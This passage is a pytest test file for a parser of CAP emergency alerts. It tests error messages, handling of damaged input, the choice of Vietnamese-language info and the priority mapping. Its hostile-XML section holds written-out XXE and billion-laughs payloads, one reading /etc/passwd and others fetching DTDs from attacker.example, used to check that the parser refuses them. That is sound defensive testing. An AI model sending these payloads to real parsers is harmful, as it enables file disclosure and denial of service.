    error = cap_error(document)
    assert error.element == f"{AREA}/geocode[1]/valueName"
    assert "empty" in error.detail


def test_empty_geocode_value_is_kept():
    document = edited("<value>00166</value>", "<value/>")
    assert parse_cap(document.encode()).infos[0].areas[0].geocodes == (ValuePair("VN_WARD_CODE", ""),)


# --- Hostile and broken XML -----------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE alert [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol3;</identifier></alert>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&secret;</identifier></alert>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>
"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused(document):
    error = cap_error(document)
    assert error.element == "alert"
    assert "DTD" in error.detail


@pytest.mark.parametrize(
    ("document", "hint"),
    [
        (MINIMAL_ALERT.replace("</alert>", ""), "line"),
        (b"", "line"),
        (b"\xff\xfe\x00garbage", "line"),
        (b"not xml at all", "line"),
        (
            MINIMAL_ALERT.replace(
                "urn:oasis:names:tc:emergency:cap:1.2", "urn:oasis:names:tc:emergency:cap:1.1"
            ),
            "namespace",
        ),
        (MINIMAL_ALERT.replace(' xmlns="urn:oasis:names:tc:emergency:cap:1.2"', ""), "namespace"),
        (MINIMAL_ALERT.replace("<alert ", "<alarm ").replace("</alert>", "</alarm>"), "root element"),
        (b'<?xml version="1.0" encoding="no-such-encoding"?><alert/>', ""),
    ],
)
def test_broken_documents_name_the_alert(document, hint):
    error = cap_error(document)
    assert error.element == "alert"
    assert hint in error.detail


def test_parse_error_reports_the_position():
    error = cap_error(edited("<event>Flood</event>", "<event>Flood</evnt>"))
    assert error.element == "alert"
    assert re.search(r"line 10, column \d+", error.detail)


def test_oversized_documents_are_refused_before_parsing():
    with pytest.raises(CapError, match="limit") as raised:
        parse_cap(MINIMAL_ALERT.encode(), max_bytes=100)
    assert raised.value.element == "alert"


@given(st.binary(max_size=400))
def test_arbitrary_bytes_give_an_alert_or_a_cap_error(data):
    with contextlib.suppress(CapError):
        parse_cap(data)


@given(st.data())
def test_damaged_documents_give_an_alert_or_a_cap_error(data):
    document = MINIMAL_ALERT
    start = data.draw(st.integers(min_value=0, max_value=len(document) - 1))
    end = data.draw(st.integers(min_value=start, max_value=min(len(document), start + 20)))
    insert = data.draw(st.sampled_from(["", "<", ">", "&", " ", ",", "x", "</info>", "Z", "-"]))
    try:
        outcome: CapAlert | str = parse_cap((document[:start] + insert + document[end:]).encode())
    except CapError as error:
        outcome = error.element
    assert isinstance(outcome, CapAlert) or outcome.startswith("alert")


# --- Language choice and priorities ---------------------------------------------------------------


def test_preferred_info_picks_vietnamese():
    alert = parse_cap(FULL_ALERT.encode())
    assert preferred_info(alert) is alert.infos[1]
    assert preferred_info(alert, languages=("en",)) is alert.infos[0]
    assert preferred_info(alert, languages=("fr", "vi")) is alert.infos[1]


@pytest.mark.parametrize("language", ["vi", "VI", "vi-VN", "Vi-vn"])
def test_preferred_info_matches_any_vietnamese_tag(language):
    english = make_info(language="en-US")
    vietnamese = make_info(language=language)
    alert = make_alert(english, vietnamese)
    assert preferred_info(alert) is vietnamese


def test_preferred_info_falls_back_to_the_first():
    first, second = make_info(language="en-US"), make_info(language="vie")
    assert preferred_info(make_alert(first, second)) is first


def make_info(
    *,
    language: str = "en-US",
    urgency: Urgency = Urgency.IMMEDIATE,
    severity: Severity = Severity.SEVERE,
    certainty: Certainty = Certainty.OBSERVED,
) -> CapInfo:
    return CapInfo(
        categories=(Category.MET,),
        event="Flood",
        urgency=urgency,
        severity=severity,
        certainty=certainty,
        language=language,
        areas=(CapArea(area_desc="Ward 1"),),
    )


def make_alert(*infos: CapInfo) -> CapAlert:
    return CapAlert(
        identifier="TEST-1",
        sender="ioc@example.vn",
        sent=datetime(2026, 11, 24, 10, tzinfo=ICT),
        status=CapStatus.ACTUAL,
        msg_type=MsgType.ALERT,
        scope=Scope.PUBLIC,
        infos=infos,
    )


def _docstring_examples() -> list[tuple[str, str, str, str, int]]:
    rows = re.findall(
        r"^\| (\w+) +\| (\w+) +\| (\w+) +\| (normal|priority|emergency) +\| (\d+) +\|$",
        cap.__doc__ or "",
        re.MULTILINE,
    )
    return [(u, s, c, k, int(sub)) for u, s, c, k, sub in rows]


def test_docstring_examples_match_the_mapping():
    examples = _docstring_examples()
    assert len(examples) >= 10
    for urgency, severity, certainty, priority_class, sub_priority in examples:
        info = make_info(
            urgency=Urgency(urgency), severity=Severity(severity), certainty=Certainty(certainty)
        )
        assert priority_for(info) == CapPriority(PriorityClass(priority_class), sub_priority)


def test_mapping_covers_every_combination_within_range():
    assert len(PRIORITY_MAPPING) == len(Urgency) * len(Severity) * len(Certainty) == 125
    subs = {priority.sub_priority for priority in PRIORITY_MAPPING.values()}
    assert min(subs) == 0
    assert max(subs) == 255
    assert all(0 <= sub <= 255 for sub in subs)
    assert len(subs) == 125  # no two combinations share a sub-priority


def test_emergency_is_exactly_the_act_now_corner():
    for (urgency, severity, certainty), priority in PRIORITY_MAPPING.items():
        act_now = (
            severity in {Severity.EXTREME, Severity.SEVERE}
            and urgency in {Urgency.IMMEDIATE, Urgency.EXPECTED}
            and certainty in {Certainty.OBSERVED, Certainty.LIKELY}
        )
        assert (priority.priority_class is PriorityClass.EMERGENCY) == act_now


def test_past_or_unlikely_is_never_more_than_normal():
    for (urgency, _, certainty), priority in PRIORITY_MAPPING.items():
        if urgency is Urgency.PAST or certainty is Certainty.UNLIKELY:
            assert priority.priority_class is PriorityClass.NORMAL


URGENCY_ORDER = [Urgency.PAST, Urgency.UNKNOWN, Urgency.FUTURE, Urgency.EXPECTED, Urgency.IMMEDIATE]
SEVERITY_ORDER = [Severity.UNKNOWN, Severity.MINOR, Severity.MODERATE, Severity.SEVERE, Severity.EXTREME]
CERTAINTY_ORDER = [
    Certainty.UNLIKELY,
    Certainty.UNKNOWN,
    Certainty.POSSIBLE,
    Certainty.LIKELY,
    Certainty.OBSERVED,
]
BANDS = [PriorityClass.NORMAL, PriorityClass.PRIORITY, PriorityClass.EMERGENCY]


@pytest.mark.parametrize("axis", [0, 1, 2])
def test_raising_one_value_never_lowers_the_priority(axis):
    orders = (URGENCY_ORDER, SEVERITY_ORDER, CERTAINTY_ORDER)
    for key, priority in PRIORITY_MAPPING.items():
        position = orders[axis].index(key[axis])
        if position + 1 == len(orders[axis]):
            continue
        higher_key = list(key)
        higher_key[axis] = orders[axis][position + 1]
        higher = PRIORITY_MAPPING[tuple(higher_key)]
        assert higher.sub_priority > priority.sub_priority
        assert BANDS.index(higher.priority_class) >= BANDS.index(priority.priority_class)


def test_priority_for_a_parsed_alert():
    alert = parse_cap(FULL_ALERT.encode())
    info = preferred_info(alert)
    assert info is not None
    assert priority_for(info) == (PriorityClass.EMERGENCY, 203)
    assert priority_for(make_info(urgency=Urgency.PAST)).priority_class is PriorityClass.NORMAL
